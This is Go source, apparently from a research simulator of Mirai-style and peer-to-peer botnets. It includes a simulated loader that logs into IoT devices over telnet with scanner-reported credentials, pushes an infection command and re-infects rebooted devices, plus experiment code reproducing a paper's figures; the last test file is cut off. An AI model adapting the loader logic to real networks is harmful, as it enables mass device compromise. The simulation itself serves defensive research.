
// pendingLoad tracks a victim with a session in flight or a retry
// scheduled; reports for it are deduplicated until it resolves.
type pendingLoad struct {
	user, pass string
	attempts   int
}

var _ container.Behavior = (*Loader)(nil)

// NewLoader creates the behaviour.
func NewLoader(cfg LoaderConfig) *Loader {
	if cfg.Port == 0 {
		cfg.Port = ScanListenPort
	}
	if cfg.RetryBase <= 0 {
		cfg.RetryBase = DefaultRetryBase
	}
	if cfg.RetryCap <= 0 {
		cfg.RetryCap = DefaultRetryCap
	}
	if cfg.MaxRetries == 0 {
		cfg.MaxRetries = DefaultMaxRetries
	}
	return &Loader{
		cfg:     cfg,
		loaded:  make(map[netip.Addr]*pendingLoad),
		pending: make(map[netip.Addr]*pendingLoad),
	}
}

// LoaderFactory adapts NewLoader to the binary registry.
func LoaderFactory(cfg LoaderConfig) container.BehaviorFactory {
	return func(args []string) container.Behavior { return NewLoader(cfg) }
}

// Name implements container.Behavior.
func (l *Loader) Name() string { return "scanListen" }

// Start implements container.Behavior.
func (l *Loader) Start(p *container.Process) {
	l.p = p
	if _, err := p.ListenTCP(l.cfg.Port, l.accept); err != nil {
		p.Logf("loader: %v", err)
	}
}

// Stop implements container.Behavior.
func (l *Loader) Stop(*container.Process) {}

// Loaded reports how many distinct victims were infected.
func (l *Loader) Loaded() int { return len(l.loaded) }

// Forget clears a victim's loaded mark so a later scanner report can
// re-infect it. This is the supervisor's hook for bots that died — a
// rebooted or fault-crashed device is vulnerable all over again, and
// the original Mirai re-recruited such devices within minutes. Because
// the loader still knows the credentials that worked, it also
// schedules an active re-load after RetryBase rather than waiting for
// a scanner to re-crack the device (unless retries are disabled).
func (l *Loader) Forget(victim netip.Addr) {
	cred, ok := l.loaded[victim]
	if !ok {
		return
	}
	delete(l.loaded, victim)
	if l.cfg.MaxRetries < 0 || l.pending[victim] != nil {
		return
	}
	st := &pendingLoad{user: cred.user, pass: cred.pass}
	l.pending[victim] = st
	l.Reloads++
	l.p.Sched().ScheduleSrc(l.cfg.RetryBase, "loader.reload", func() {
		if !l.p.Alive() || l.pending[victim] != st {
			return
		}
		l.load(victim)
	})
}

func (l *Loader) accept(conn *netsim.TCPConn) {
	var lb lineBuffer
	conn.SetDataHandler(func(data []byte) {
		for _, line := range lb.feed(data) {
			l.onReport(line)
		}
	})
	conn.SetCloseHandler(func(error) {})
}

func (l *Loader) onReport(line string) {
	fields := strings.Fields(line)
	if len(fields) != 4 || fields[0] != "victim" {
		return
	}
	addr, err := netip.ParseAddr(fields[1])
	if err != nil {
		return
	}
	l.Reports++
	if l.loaded[addr] != nil || l.pending[addr] != nil {
		return // already infected or in progress; scanners re-discover constantly
	}
	l.pending[addr] = &pendingLoad{user: fields[2], pass: fields[3]}
	if l.cfg.OnReport != nil {
		l.cfg.OnReport(addr)
	}
	l.load(addr)
}

// fail records a failed load attempt and schedules the backoff
// re-dial. Once MaxRetries is exhausted the victim is released, so a
// later scanner report can start over.
func (l *Loader) fail(victim netip.Addr) {
	st := l.pending[victim]
	if st == nil {
		return
	}
	st.attempts++
	if l.cfg.MaxRetries < 0 || st.attempts > l.cfg.MaxRetries {
		delete(l.pending, victim)
		return
	}
	delay := l.cfg.RetryBase << uint(st.attempts-1)
	if delay > l.cfg.RetryCap || delay <= 0 {
		delay = l.cfg.RetryCap
	}
	l.Retries++
	l.p.Sched().ScheduleSrc(delay, "loader.retry", func() {
		if !l.p.Alive() || l.pending[victim] != st {
			return
		}
		l.load(victim)
	})
}

// load drives the victim's telnet session: login, push the infection
// one-liner, wait for the prompt to return, exit.
func (l *Loader) load(victim netip.Addr) {
	st := l.pending[victim]
	if st == nil {
		return
	}
	l.p.DialTCP(netip.AddrPortFrom(victim, 23), func(c *netsim.TCPConn, err error) {
		if err != nil {
			l.fail(victim)
			return
		}
		s := &telnetSession{loader: l, victim: victim, conn: c, st: st}
		c.SetDataHandler(s.onData)
		c.SetCloseHandler(func(cerr error) {
			if s.stage < 4 {
				l.fail(victim)
			}
		})
	})
}

// telnetSession is the loader side of one victim telnet conversation.
// Prompts are matched against the unconsumed tail of the transcript
// (everything past off) rather than the whole accumulated text: a
// banner, a server echo of a sent line, or command output containing a
// prompt substring must not advance stages early. Each match consumes
// through its end, and echoes of our own lines are skipped explicitly,
// so an InfectionCommand containing "$ " cannot satisfy the
// prompt-return check.
type telnetSession struct {
	loader *Loader
	victim netip.Addr
	conn   *netsim.TCPConn
	st     *pendingLoad

	buf   []byte
	off   int
	stage int
	echo  []byte // most recently sent line, if its echo is still unconsumed
}

// send transmits one line and remembers it so a server echo is
// consumed instead of pattern-matched.
func (s *telnetSession) send(line string) {
	_ = s.conn.Send([]byte(line + "\n"))
	s.echo = []byte(line)
}

// skipEcho drops a server echo of the last sent line from the
// unconsumed tail. It reports false when more data is needed to decide
// (the tail so far is a strict prefix of the expected echo).
func (s *telnetSession) skipEcho() bool {
	if len(s.echo) == 0 {
		return true
	}
	tail := s.buf[s.off:]
	for len(tail) > 0 && (tail[0] == '\r' || tail[0] == '\n') {
		s.off++
		tail = tail[1:]
	}
	if len(tail) == 0 {
		return true
	}
	if i := bytes.Index(tail, s.echo); i == 0 {
		s.off += len(s.echo)
		for s.off < len(s.buf) && (s.buf[s.off] == '\r' || s.buf[s.off] == '\n') {
			s.off++
		}
		s.echo = nil
		return true
	}
	if bytes.HasPrefix(s.echo, tail) {
		return false // echo still arriving; wait before matching prompts
	}
	s.echo = nil // server does not echo this line
	return true
}

// expect searches the unconsumed tail for pattern and, on a match,
// consumes through its end.
func (s *telnetSession) expect(pattern string) bool {
	i := bytes.Index(s.buf[s.off:], []byte(pattern))
	if i < 0 {
		return false
	}
	s.off += i + len(pattern)
	return true
}

func (s *telnetSession) onData(data []byte) {
	s.buf = append(s.buf, data...)
	for {
		if !s.skipEcho() {
			return
		}
		switch {
		case s.stage == 0 && s.expect("login: "):
			s.stage = 1
			s.send(s.st.user)
		case s.stage == 1 && s.expect("Password: "):
			s.stage = 2
			s.send(s.st.pass)
		case s.stage == 2 && s.expect("$ "):
			s.stage = 3
			s.send(s.loader.cfg.InfectionCommand)
		case s.stage == 3 && s.expect("$ "):
			s.stage = 4
			l := s.loader
			delete(l.pending, s.victim)
			l.loaded[s.victim] = s.st
			l.Loads++
			if l.cfg.OnLoaded != nil {
				l.cfg.OnLoaded(s.victim)
			}
			s.send("exit")
			s.conn.Close()
			return
		default:
			return
		}
	}
}
