package experiments

import (
	"fmt"
	"strings"

	"ddosim/internal/core"
	"ddosim/internal/sim"
)

// RecruitRow is one point of the recruitment-vector comparison — the
// experiment behind the paper's R1 motivation: as credential hygiene
// improves (legislation), the dictionary vector collapses while the
// memory-error vector is untouched.
type RecruitRow struct {
	Vector           core.RecruitVector
	WeakCredFraction float64
	InfectionRate    float64
	MeanRecruitSecs  float64
}

// Recruitment sweeps recruitment vector × weak-credential fraction
// and reports infection rates and mean time-to-recruitment.
func Recruitment(opt Options) ([]RecruitRow, error) {
	devs := 40
	fractions := []float64{1.0, 0.5, 0.25, 0.0}
	if opt.Quick {
		devs = 15
		fractions = []float64{1.0, 0.0}
	}

	var rows []RecruitRow

	run := func(vector core.RecruitVector, frac float64) (RecruitRow, error) {
		var rateSum, timeSum float64
		timed := 0
		for _, seed := range opt.seeds() {
			cfg := core.DefaultConfig(devs)
			opt.apply(&cfg)
			cfg.Seed = seed
			cfg.Vector = vector
			cfg.WeakCredFraction = frac
			cfg.AttackDuration = 30
			if vector == core.VectorCredentials {
				cfg.SimDuration = 900 * sim.Second
				cfg.RecruitTimeout = 600 * sim.Second
				cfg.ScanPeriod = sim.Second
			}
			s, err := core.New(cfg)
			if err != nil {
				return RecruitRow{}, err
			}
			r, err := s.Run()
			if err != nil {
				return RecruitRow{}, err
			}
			if err := opt.dumpObs(fmt.Sprintf("recruit-%s-w%d-s%d", vector, int(frac*100), seed), s); err != nil {
				return RecruitRow{}, err
			}
			rateSum += r.InfectionRate()
			if mean, ok := r.MeanPhaseSecs("recruit"); ok {
				timeSum += mean
				timed++
			}
		}
		row := RecruitRow{
			Vector:           vector,
			WeakCredFraction: frac,
			InfectionRate:    rateSum / float64(len(opt.seeds())),
		}
		if timed > 0 {
			row.MeanRecruitSecs = timeSum / float64(timed)
		}
		return row, nil
	}

	// The memory-error vector ignores credentials entirely: one row.
	row, err := run(core.VectorMemoryError, 1.0)
	if err != nil {
		return nil, fmt.Errorf("recruitment memory-error: %w", err)
	}
	rows = append(rows, row)

	for _, frac := range fractions {
		row, err := run(core.VectorCredentials, frac)
		if err != nil {
			return nil, fmt.Errorf("recruitment credentials frac=%v: %w", frac, err)
		}
		rows = append(rows, row)
	}
	return rows, nil
}

// RenderRecruitment prints the comparison.
func RenderRecruitment(rows []RecruitRow) string {
	var b strings.Builder
	b.WriteString("Recruitment-vector comparison (R1): infection rate vs credential hygiene\n")
	fmt.Fprintf(&b, "%-14s %12s %15s %18s\n", "vector", "weak creds", "infection rate", "mean recruit (s)")
	for _, r := range rows {
		fmt.Fprintf(&b, "%-14s %11.0f%% %14.0f%% %18.1f\n",
			r.Vector, 100*r.WeakCredFraction, 100*r.InfectionRate, r.MeanRecruitSecs)
	}
	return b.String()
}
