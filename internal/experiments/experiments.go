// Package experiments regenerates every table and figure of the
// paper's evaluation (§IV): Fig. 2 (received rate vs fleet size ×
// churn), Fig. 3 (received rate vs attack duration), Table I
// (resource usage), and Fig. 4 (DDoSim vs hardware validation). The
// cmd/experiments binary and the repository benchmarks both drive
// this package.
package experiments

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"

	"ddosim/internal/churn"
	"ddosim/internal/core"
	"ddosim/internal/hardware"
	"ddosim/internal/sim"
)

// Options tunes a regeneration run.
type Options struct {
	// Seeds to average over; defaults to {1, 2, 3}.
	Seeds []int64
	// Quick shrinks sweeps for smoke tests and benchmarks.
	Quick bool
	// TraceDir, when non-empty, writes per-run observability
	// artifacts into the directory: <label>.trace.json (Chrome
	// trace_event, open in Perfetto) and <label>.metrics.prom
	// (Prometheus text dump), one pair per experiment point × seed.
	TraceDir string
	// FlowsDir, when non-empty, writes <label>.flows.csv — the run's
	// labeled flow-record dataset — per experiment point × seed.
	FlowsDir string
	// TSDir, when non-empty, writes <label>.ts.csv — the run's windowed
	// time-series metrics — per experiment point × seed.
	TSDir string
	// Window overrides the time-series window size (default 1 s).
	Window sim.Time
}

// Window converts a window size in (possibly fractional) seconds to
// sim time, for callers that don't otherwise deal in sim.Time.
func Window(secs float64) sim.Time { return sim.Time(secs * float64(sim.Second)) }

// apply copies the option overrides that live inside the run config.
func (o Options) apply(cfg *core.Config) {
	if o.Window > 0 {
		cfg.WindowSize = o.Window
	}
}

func (o Options) seeds() []int64 {
	if len(o.Seeds) > 0 {
		return o.Seeds
	}
	return []int64{1, 2, 3}
}

// dumpObs writes one finished run's observability artifacts: trace +
// metrics under o.TraceDir, the labeled flow dataset under o.FlowsDir,
// and the windowed time series under o.TSDir. Unset directories are
// skipped.
func (o Options) dumpObs(label string, s *core.Simulation) error {
	if o.TraceDir != "" {
		if err := writeArtifact(o.TraceDir, label+".trace.json", s.Obs().Trace.WriteChromeTrace); err != nil {
			return err
		}
		if err := writeArtifact(o.TraceDir, label+".metrics.prom", s.Obs().Metrics.WritePrometheus); err != nil {
			return err
		}
	}
	if o.FlowsDir != "" {
		if err := writeArtifact(o.FlowsDir, label+".flows.csv", s.Flows().WriteCSV); err != nil {
			return err
		}
	}
	if o.TSDir != "" {
		if err := writeArtifact(o.TSDir, label+".ts.csv", s.Windows().WriteCSV); err != nil {
			return err
		}
	}
	return nil
}

// writeArtifact creates dir/name and streams write into it.
func writeArtifact(dir, name string, write func(io.Writer) error) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	f, err := os.Create(filepath.Join(dir, name))
	if err != nil {
		return err
	}
	if err := write(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

func runAveraged(cfg core.Config, label string, opt Options) (float64, *core.Results, error) {
	var sum float64
	var last *core.Results
	seeds := opt.seeds()
	for _, seed := range seeds {
		c := cfg
		c.Seed = seed
		s, err := core.New(c)
		if err != nil {
			return 0, nil, err
		}
		r, err := s.Run()
		if err != nil {
			return 0, nil, err
		}
		if err := opt.dumpObs(fmt.Sprintf("%s-s%d", label, seed), s); err != nil {
			return 0, nil, err
		}
		sum += r.DReceivedKbps
		last = r
	}
	return sum / float64(len(seeds)), last, nil
}

// --- Figure 2 ---

// Fig2Row is one point of Fig. 2.
type Fig2Row struct {
	Devs          int
	Mode          churn.Mode
	DReceivedKbps float64
}

// Fig2 sweeps fleet size × churn mode with a 100 s attack.
func Fig2(opt Options) ([]Fig2Row, error) {
	devCounts := []int{10, 30, 50, 70, 90, 110, 130, 150}
	if opt.Quick {
		devCounts = []int{10, 30, 50}
	}
	modes := []churn.Mode{churn.None, churn.Static, churn.Dynamic}
	type job struct {
		devs int
		mode churn.Mode
	}
	var jobs []job
	for _, devs := range devCounts {
		for _, mode := range modes {
			jobs = append(jobs, job{devs: devs, mode: mode})
		}
	}
	return parallelMap(len(jobs), func(i int) (Fig2Row, error) {
		j := jobs[i]
		cfg := core.DefaultConfig(j.devs)
		opt.apply(&cfg)
		cfg.Churn = j.mode
		avg, _, err := runAveraged(cfg, fmt.Sprintf("fig2-d%d-%s", j.devs, j.mode), opt)
		if err != nil {
			return Fig2Row{}, fmt.Errorf("fig2 devs=%d mode=%v: %w", j.devs, j.mode, err)
		}
		return Fig2Row{Devs: j.devs, Mode: j.mode, DReceivedKbps: avg}, nil
	})
}

// RenderFig2 prints the figure as an ASCII table, one series per
// churn mode.
func RenderFig2(rows []Fig2Row) string {
	var b strings.Builder
	b.WriteString("Figure 2: average received data rate (kbps) vs number of Devs\n")
	fmt.Fprintf(&b, "%-8s %14s %14s %14s\n", "Devs", "no churn", "static churn", "dynamic churn")
	byDevs := make(map[int]map[churn.Mode]float64)
	var order []int
	for _, r := range rows {
		m, ok := byDevs[r.Devs]
		if !ok {
			m = make(map[churn.Mode]float64)
			byDevs[r.Devs] = m
			order = append(order, r.Devs)
		}
		m[r.Mode] = r.DReceivedKbps
	}
	for _, devs := range order {
		m := byDevs[devs]
		fmt.Fprintf(&b, "%-8d %14.1f %14.1f %14.1f\n",
			devs, m[churn.None], m[churn.Static], m[churn.Dynamic])
	}
	return b.String()
}

// --- Figure 3 ---

// Fig3Row is one point of Fig. 3.
type Fig3Row struct {
	Devs          int
	DurationSecs  int
	DReceivedKbps float64
}

// Fig3 sweeps attack duration per fleet size (no churn).
func Fig3(opt Options) ([]Fig3Row, error) {
	devCounts := []int{50, 100, 150, 200}
	durations := []int{150, 200, 300}
	if opt.Quick {
		devCounts = []int{50, 100}
		durations = []int{150, 300}
	}
	type job struct {
		devs, dur int
	}
	var jobs []job
	for _, devs := range devCounts {
		for _, dur := range durations {
			jobs = append(jobs, job{devs: devs, dur: dur})
		}
	}
	return parallelMap(len(jobs), func(i int) (Fig3Row, error) {
		j := jobs[i]
		cfg := core.DefaultConfig(j.devs)
		opt.apply(&cfg)
		cfg.AttackDuration = j.dur
		avg, _, err := runAveraged(cfg, fmt.Sprintf("fig3-d%d-dur%d", j.devs, j.dur), opt)
		if err != nil {
			return Fig3Row{}, fmt.Errorf("fig3 devs=%d dur=%d: %w", j.devs, j.dur, err)
		}
		return Fig3Row{Devs: j.devs, DurationSecs: j.dur, DReceivedKbps: avg}, nil
	})
}

// RenderFig3 prints the figure as an ASCII table, one row per fleet
// size.
func RenderFig3(rows []Fig3Row) string {
	var b strings.Builder
	b.WriteString("Figure 3: average received data rate (kbps) vs attack duration\n")
	byDevs := make(map[int]map[int]float64)
	var devOrder []int
	durSet := make(map[int]bool)
	var durs []int
	for _, r := range rows {
		m, ok := byDevs[r.Devs]
		if !ok {
			m = make(map[int]float64)
			byDevs[r.Devs] = m
			devOrder = append(devOrder, r.Devs)
		}
		m[r.DurationSecs] = r.DReceivedKbps
		if !durSet[r.DurationSecs] {
			durSet[r.DurationSecs] = true
			durs = append(durs, r.DurationSecs)
		}
	}
	fmt.Fprintf(&b, "%-8s", "Devs")
	for _, d := range durs {
		fmt.Fprintf(&b, " %11ds", d)
	}
	b.WriteByte('\n')
	for _, devs := range devOrder {
		fmt.Fprintf(&b, "%-8d", devs)
		for _, d := range durs {
			fmt.Fprintf(&b, " %12.1f", byDevs[devs][d])
		}
		b.WriteByte('\n')
	}
	return b.String()
}

// --- Table I ---

// Table1Row is one row of Table I.
type Table1Row struct {
	Devs           int
	PreAttackMemGB float64
	AttackMemGB    float64
	AttackTime     string
	AttackTimeSecs float64
}

// Table1 sweeps fleet size with the 100 s attack and reports the
// resource model's estimates.
func Table1(opt Options) ([]Table1Row, error) {
	devCounts := []int{20, 40, 70, 100, 130}
	if opt.Quick {
		devCounts = []int{20, 40}
	}
	return parallelMap(len(devCounts), func(i int) (Table1Row, error) {
		devs := devCounts[i]
		cfg := core.DefaultConfig(devs)
		opt.apply(&cfg)
		cfg.Seed = opt.seeds()[0]
		s, err := core.New(cfg)
		if err != nil {
			return Table1Row{}, fmt.Errorf("table1 devs=%d: %w", devs, err)
		}
		r, err := s.Run()
		if err != nil {
			return Table1Row{}, fmt.Errorf("table1 devs=%d: %w", devs, err)
		}
		if err := opt.dumpObs(fmt.Sprintf("table1-d%d-s%d", devs, cfg.Seed), s); err != nil {
			return Table1Row{}, fmt.Errorf("table1 devs=%d: %w", devs, err)
		}
		return Table1Row{
			Devs:           devs,
			PreAttackMemGB: r.Usage.PreAttackMemGB,
			AttackMemGB:    r.Usage.AttackMemGB,
			AttackTime:     r.Usage.AttackTimeMMSS(),
			AttackTimeSecs: r.Usage.AttackTimeSecs,
		}, nil
	})
}

// RenderTable1 prints the table in the paper's format.
func RenderTable1(rows []Table1Row) string {
	var b strings.Builder
	b.WriteString("Table I: hardware resources consumed by DDoSim\n")
	fmt.Fprintf(&b, "%-6s %20s %16s %18s\n", "Devs", "Pre-attack Mem (GB)", "Attack Mem (GB)", "Attack Time (m:ss)")
	for _, r := range rows {
		fmt.Fprintf(&b, "%-6d %20.2f %16.2f %18s\n", r.Devs, r.PreAttackMemGB, r.AttackMemGB, r.AttackTime)
	}
	return b.String()
}

// --- Figure 4 ---

// Fig4Row is one point of Fig. 4.
type Fig4Row struct {
	Devs          int
	DDoSimKbps    float64
	HardwareKbps  float64
	RelativeError float64
}

// Fig4 runs the validation sweep: 1–19 Devs through DDoSim and
// through the independent hardware model, identical settings.
func Fig4(opt Options) ([]Fig4Row, error) {
	devCounts := make([]int, 0, 19)
	step := 2
	if opt.Quick {
		step = 6
	}
	for d := 1; d <= 19; d += step {
		devCounts = append(devCounts, d)
	}
	return parallelMap(len(devCounts), func(i int) (Fig4Row, error) {
		devs := devCounts[i]
		var ddosimSum, hwSum float64
		for _, seed := range opt.seeds() {
			cfg := core.DefaultConfig(devs)
			opt.apply(&cfg)
			cfg.Seed = seed
			s, err := core.New(cfg)
			if err != nil {
				return Fig4Row{}, fmt.Errorf("fig4 devs=%d: %w", devs, err)
			}
			// The validation deploys the *same* devices on both
			// substrates: reuse DDoSim's sampled rates for the Pis.
			rates := make([]int64, 0, devs)
			for _, d := range s.Devs() {
				rates = append(rates, int64(d.Rate()))
			}
			r, err := s.Run()
			if err != nil {
				return Fig4Row{}, fmt.Errorf("fig4 devs=%d: %w", devs, err)
			}
			if err := opt.dumpObs(fmt.Sprintf("fig4-d%d-s%d", devs, seed), s); err != nil {
				return Fig4Row{}, fmt.Errorf("fig4 devs=%d: %w", devs, err)
			}
			ddosimSum += r.DReceivedKbps

			hw := hardware.DefaultConfig(devs)
			hw.Seed = seed
			hw.RatesBps = rates
			hwSum += hardware.Run(hw).AvgReceivedKbps
		}
		ddosimAvg := ddosimSum / float64(len(opt.seeds()))
		hwAvg := hwSum / float64(len(opt.seeds()))
		rel := 0.0
		if hwAvg > 0 {
			rel = (ddosimAvg - hwAvg) / hwAvg
		}
		return Fig4Row{
			Devs: devs, DDoSimKbps: ddosimAvg, HardwareKbps: hwAvg, RelativeError: rel,
		}, nil
	})
}

// RenderFig4 prints the validation comparison.
func RenderFig4(rows []Fig4Row) string {
	var b strings.Builder
	b.WriteString("Figure 4: real-world (hardware model) vs DDoSim\n")
	fmt.Fprintf(&b, "%-6s %14s %16s %10s\n", "Devs", "DDoSim (kbps)", "hardware (kbps)", "rel.err")
	for _, r := range rows {
		fmt.Fprintf(&b, "%-6d %14.1f %16.1f %9.1f%%\n", r.Devs, r.DDoSimKbps, r.HardwareKbps, 100*r.RelativeError)
	}
	return b.String()
}
