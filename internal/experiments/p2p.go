package experiments

import (
	"fmt"
	"strings"

	"ddosim/internal/core"
	"ddosim/internal/faults"
	"ddosim/internal/sim"
)

// p2pTakedownSecs is how long after the attack order the permanent
// C&C takedown lands in the P2P experiment.
const p2pTakedownSecs = 30

// p2pPostGraceSecs skips the drain right after the takedown before the
// post-takedown rate is averaged: in-flight heartbeat orders keep the
// centralized flood alive for up to one command wave, and the sharded
// teardown of the C&C uplink takes a TCP timeout to propagate.
const p2pPostGraceSecs = 15

// P2PRow is one point of the family × fault-intensity sweep.
type P2PRow struct {
	Family        string
	Intensity     float64
	InfectionRate float64
	// DissemLatencySecs is the mean attack-order → first-flood-packet
	// latency across the fleet: a TCP push for mirai, a record lookup
	// (or replica push) for p2p.
	DissemLatencySecs float64
	DReceivedKbps     float64
	// Pre/PostTakedownKbps average the received rate before the
	// permanent C&C takedown and after it (past the drain grace);
	// SustainRatio is their quotient — the takedown-resilience metric.
	PreTakedownKbps  float64
	PostTakedownKbps float64
	SustainRatio     float64
}

// P2P runs the takedown-resilience contrast between the botnet
// families: both recruit the same fleet through the same memory-error
// exploits and flood the same sink, but p2pTakedownSecs into the
// attack the botmaster is permanently taken down — process killed,
// uplink severed, no restart. The centralized family runs in heartbeat
// mode (CommandWave), so its flood starves within one wave; the P2P
// family's bots hold a signed record with the campaign's absolute end
// and keep flooding off the surviving replicas.
func P2P(opt Options) ([]P2PRow, error) {
	devs := 30
	intensities := []float64{0, 0.5}
	if opt.Quick {
		devs = 12
		intensities = []float64{0}
	}
	families := []string{core.BotnetMirai, core.BotnetP2P}
	type job struct {
		family    string
		intensity float64
	}
	var jobs []job
	for _, fam := range families {
		for _, x := range intensities {
			jobs = append(jobs, job{family: fam, intensity: x})
		}
	}
	return parallelMap(len(jobs), func(i int) (P2PRow, error) {
		j := jobs[i]
		row := P2PRow{Family: j.family, Intensity: j.intensity}
		var preSum, postSum, dSum, rateSum, dissemSum float64
		dissemRuns := 0
		for _, seed := range opt.seeds() {
			cfg := core.DefaultConfig(devs)
			opt.apply(&cfg)
			cfg.Seed = seed
			cfg.Botnet = j.family
			cfg.SimDuration = 400 * sim.Second
			cfg.AttackDuration = 120
			// Keep the flood ramp short so the pre-takedown window
			// measures a steady rate, not the jitter ramp.
			cfg.StartJitterPerDev = 50 * sim.Millisecond
			if j.family == core.BotnetMirai {
				cfg.CommandWave = 10 * sim.Second
			} else {
				cfg.P2PPollPeriod = 10 * sim.Second
			}
			cfg.Faults = faults.AtIntensity(j.intensity)
			cfg.Faults.CNCTakedownAfterOrder = p2pTakedownSecs * sim.Second
			s, err := core.New(cfg)
			if err != nil {
				return P2PRow{}, fmt.Errorf("p2p %s x=%v: %w", j.family, j.intensity, err)
			}
			r, err := s.Run()
			if err != nil {
				return P2PRow{}, fmt.Errorf("p2p %s x=%v: %w", j.family, j.intensity, err)
			}
			label := fmt.Sprintf("p2p-%s-x%03d-s%d", j.family, int(j.intensity*100), seed)
			if err := opt.dumpObs(label, s); err != nil {
				return P2PRow{}, err
			}
			rateSum += r.InfectionRate()
			dSum += r.DReceivedKbps
			if lat, ok := dissemLatency(r); ok {
				dissemSum += lat
				dissemRuns++
			}
			pre, post := takedownSplit(r.PerSecondKbps)
			preSum += pre
			postSum += post
		}
		n := float64(len(opt.seeds()))
		row.InfectionRate = rateSum / n
		row.DReceivedKbps = dSum / n
		row.PreTakedownKbps = preSum / n
		row.PostTakedownKbps = postSum / n
		if dissemRuns > 0 {
			row.DissemLatencySecs = dissemSum / float64(dissemRuns)
		}
		if row.PreTakedownKbps > 0 {
			row.SustainRatio = row.PostTakedownKbps / row.PreTakedownKbps
		}
		return row, nil
	})
}

// dissemLatency is the mean attack-order → first-flood-packet latency
// over the fleet (heartbeat waves re-record flood starts, so only each
// bot's first counts).
func dissemLatency(r *core.Results) (float64, bool) {
	if r.AttackIssuedAt < 0 {
		return 0, false
	}
	first := make(map[string]sim.Time)
	var order []string
	for _, e := range r.Timeline.Events() {
		if e.Kind != core.EventFloodStart || e.At < r.AttackIssuedAt {
			continue
		}
		if _, ok := first[e.Actor]; !ok {
			first[e.Actor] = e.At
			order = append(order, e.Actor)
		}
	}
	if len(order) == 0 {
		return 0, false
	}
	var sum float64
	for _, actor := range order {
		sum += (first[actor] - r.AttackIssuedAt).Seconds()
	}
	return sum / float64(len(order)), true
}

// takedownSplit averages the per-second received series before the
// takedown instant and after it plus the drain grace.
func takedownSplit(series []float64) (pre, post float64) {
	avg := func(s []float64) float64 {
		if len(s) == 0 {
			return 0
		}
		var sum float64
		for _, v := range s {
			sum += v
		}
		return sum / float64(len(s))
	}
	td := p2pTakedownSecs
	if td > len(series) {
		td = len(series)
	}
	from := p2pTakedownSecs + p2pPostGraceSecs
	if from > len(series) {
		from = len(series)
	}
	return avg(series[:td]), avg(series[from:])
}

// RenderP2P prints the contrast.
func RenderP2P(rows []P2PRow) string {
	var b strings.Builder
	b.WriteString("P2P: takedown resilience, centralized (mirai) vs Kademlia overlay (p2p)\n")
	fmt.Fprintf(&b, "%-8s %-10s %15s %12s %14s %13s %14s %9s\n",
		"family", "intensity", "infection rate", "dissem (s)", "D_recv (kbps)", "pre-TD (kbps)", "post-TD (kbps)", "sustain")
	for _, r := range rows {
		fmt.Fprintf(&b, "%-8s %-10.2f %14.0f%% %12.2f %14.1f %13.1f %14.1f %8.0f%%\n",
			r.Family, r.Intensity, 100*r.InfectionRate, r.DissemLatencySecs,
			r.DReceivedKbps, r.PreTakedownKbps, r.PostTakedownKbps, 100*r.SustainRatio)
	}
	return b.String()
}
