package experiments

import (
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"ddosim/internal/churn"
	"ddosim/internal/obs"
)

var quickOpt = Options{Seeds: []int64{1}, Quick: true}

func TestFig2QuickShape(t *testing.T) {
	rows, err := Fig2(quickOpt)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 9 { // 3 dev counts x 3 modes
		t.Fatalf("rows = %d", len(rows))
	}
	// D_received grows with Devs within each mode.
	byMode := make(map[churn.Mode][]float64)
	for _, r := range rows {
		byMode[r.Mode] = append(byMode[r.Mode], r.DReceivedKbps)
	}
	for mode, series := range byMode {
		for i := 1; i < len(series); i++ {
			if series[i] <= series[i-1] {
				t.Fatalf("mode %v: series not increasing: %v", mode, series)
			}
		}
	}
	out := RenderFig2(rows)
	if !strings.Contains(out, "no churn") || !strings.Contains(out, "dynamic churn") {
		t.Fatalf("render = %q", out)
	}
}

func TestFig3QuickShape(t *testing.T) {
	rows, err := Fig3(quickOpt)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 { // 2 dev counts x 2 durations
		t.Fatalf("rows = %d", len(rows))
	}
	// For each fleet size, longer attacks yield a higher average
	// received rate (the paper's Fig. 3 trend).
	byDevs := make(map[int]map[int]float64)
	for _, r := range rows {
		if byDevs[r.Devs] == nil {
			byDevs[r.Devs] = make(map[int]float64)
		}
		byDevs[r.Devs][r.DurationSecs] = r.DReceivedKbps
	}
	for devs, m := range byDevs {
		if m[300] <= m[150] {
			t.Fatalf("devs=%d: 300s (%.1f) not above 150s (%.1f)", devs, m[300], m[150])
		}
	}
	if RenderFig3(rows) == "" {
		t.Fatal("empty render")
	}
}

func TestTable1QuickShape(t *testing.T) {
	rows, err := Table1(quickOpt)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("rows = %d", len(rows))
	}
	for _, r := range rows {
		if r.AttackMemGB <= r.PreAttackMemGB {
			t.Fatalf("devs=%d: attack mem not above pre-attack: %+v", r.Devs, r)
		}
		if r.AttackTimeSecs <= 100 {
			t.Fatalf("devs=%d: attack time %.0f not inflated", r.Devs, r.AttackTimeSecs)
		}
	}
	if rows[1].PreAttackMemGB <= rows[0].PreAttackMemGB {
		t.Fatal("pre-attack memory not monotone in Devs")
	}
	out := RenderTable1(rows)
	if !strings.Contains(out, "Pre-attack Mem") {
		t.Fatalf("render = %q", out)
	}
}

func TestRecruitmentQuick(t *testing.T) {
	rows, err := Recruitment(quickOpt)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 { // memory + credentials at {1.0, 0.0}
		t.Fatalf("rows = %d", len(rows))
	}
	if rows[0].InfectionRate != 1.0 {
		t.Fatalf("memory-error rate = %v", rows[0].InfectionRate)
	}
	// Fully weak fleet recruits; fully strong fleet does not.
	if rows[1].InfectionRate != 1.0 {
		t.Fatalf("credentials@100%% rate = %v", rows[1].InfectionRate)
	}
	if rows[2].InfectionRate != 0 {
		t.Fatalf("credentials@0%% rate = %v", rows[2].InfectionRate)
	}
	// Memory-error recruits much faster than scanning.
	if rows[0].MeanRecruitSecs >= rows[1].MeanRecruitSecs {
		t.Fatalf("memory %.1fs not faster than credentials %.1fs",
			rows[0].MeanRecruitSecs, rows[1].MeanRecruitSecs)
	}
	out := RenderRecruitment(rows)
	if !strings.Contains(out, "memory-error") || !strings.Contains(out, "credentials") {
		t.Fatalf("render = %q", out)
	}
}

func TestDumpObsWritesTelemetryArtifacts(t *testing.T) {
	dir := t.TempDir()
	opt := Options{
		Seeds:    []int64{1},
		Quick:    true,
